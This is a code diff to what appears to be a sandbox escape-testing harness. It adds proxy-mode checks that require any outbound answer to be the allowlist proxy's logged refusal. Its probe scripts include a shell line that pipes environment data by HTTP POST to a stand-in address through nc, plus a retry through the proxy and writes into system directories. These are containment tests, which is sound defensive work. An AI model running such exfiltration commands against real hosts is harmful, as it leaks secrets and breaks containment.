@@ -1,6 +1,7 @@
 import { spawnSync } from "node:child_process";
 import type Dockerode from "dockerode";
-import type { LaunchSpec } from "../components/spec/launch";
+import type { ProxyDecision } from "../components/spec/egress";
+import { type LaunchSpec, PER_TASK_NETWORK } from "../components/spec/launch";
 import {
   HTTP_GET,
   judgeProbe,
@@ -64,7 +65,19 @@ export interface EscapeResult {
 function networkWall(spec: LaunchSpec): string {
   return spec.network === "none"
     ? "no network (networkMode none: no interface but loopback)"
-    : `internal network ${spec.network}: no route off the machine, only the allowlist proxy`;
+    : spec.network === PER_TASK_NETWORK
+      ? "the task's own internal network (no route off the machine) and the allowlist proxy, its only way out"
+      : `internal network ${spec.network}: no route off the machine, only the allowlist proxy`;
+}
+
+/** The proxy's refusals of requests to `host`, as evidence lines. */
+function refusals(decisions: readonly ProxyDecision[], host: string): string[] {
+  return decisions
+    .filter((d) => d.decision === "denied" && d.host === host)
+    .map(
+      (d) =>
+        `proxy denied ${d.method} ${d.host}:${d.port} (${d.squid}/${d.status}${d.server === undefined ? ", no connection made" : `, connected to ${d.server}`})`,
+    );
 }
 
 const SCRIPTS: Record<EscapeCheck, string> = {
@@ -75,6 +88,9 @@ const SCRIPTS: Record<EscapeCheck, string> = {
     `status="$( { printf 'POST /collect HTTP/1.0\\r\\nHost: 203.0.113.7\\r\\nContent-Length: %s\\r\\n\\r\\n' "$(printf %s "$payload" | wc -c)"; printf %s "$payload"; } | nc -w 3 203.0.113.7 80 2>&1 | head -n 1)"`,
     'echo "escape.names=$names"',
     'echo "escape.status=$status"',
+    // Proxy mode: the same attempt through the proxy, which must refuse it (the address is on no allowlist).
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
+    'if [ -n "${http_proxy:-}" ]; then echo "escape.proxyStatus=$(http_get http://203.0.113.7/collect)"; fi',
   ].join("\n"),
   "write-outside-job": [
     "for d in / /etc /usr /bin /sbin /lib /var /root /home /opt /srv /run; do",
@@ -115,15 +131,27 @@ export async function runEscape(
   switch (check) {
     case "exfiltrate-env":
     case "metadata": {
+      // Proxy mode: an answer is acceptable only as the proxy's refusal, proven by its decision log (a 403 and a
+      // "denied" decision for that host, with no connection made).
+      const decisions = result.egress?.decisions ?? [];
+      const host = check === "metadata" ? new URL(METADATA_URL).hostname : "203.0.113.7";
+      const denied = refusals(decisions, host);
+      const refused = (status: string) => status === "" || (/ 403 /.test(status) && denied.length > 0);
       const status = lines(result.stdout, "status")[0] ?? "";
-      const blocked = !status.startsWith("HTTP/");
+      const proxyStatus = lines(result.stdout, "proxyStatus")[0] ?? "";
+      const direct = check === "exfiltrate-env" ? !status.startsWith("HTTP/") : refused(status);
+      const blocked = direct && refused(proxyStatus);
       const names = lines(result.stdout, "names")[0];
+      const answered = [status, proxyStatus].filter((x) => x.startsWith("HTTP/")).join(", ");
       return {
         check,
         blocked,
         blockedBy: blocked ? networkWall(spec) : "nothing: a server answered",
         evidence:
-          (blocked ? `no HTTP answer${status ? ` (${status})` : ""}` : `answered: ${status}`) +
+          (blocked
+            ? `no answer but the proxy's refusal${answered ? ` (${answered})` : ""}`
+            : `answered: ${answered}`) +
+          (denied.length > 0 ? `; ${denied.join("; ")}` : "") +
           (names === undefined ? "" : `; the environment held only: ${names}`),
         leftovers,
       };
